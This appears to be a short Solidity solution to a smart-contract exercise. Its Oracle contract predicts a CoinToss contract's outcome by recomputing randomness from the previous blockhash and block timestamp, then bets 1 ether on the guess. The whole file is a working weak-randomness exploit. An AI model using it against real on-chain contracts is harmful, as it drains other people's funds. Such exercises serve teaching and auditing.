// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";

contract Oracle {
    constructor() payable {}

    function win(CoinToss target) external {
        uint256 coin = uint256(keccak256(abi.encode(blockhash(block.number - 1), block.timestamp))) % 2;
        target.toss{value: 1 ether}(coin == 1);
    }

    receive() external payable {}
}
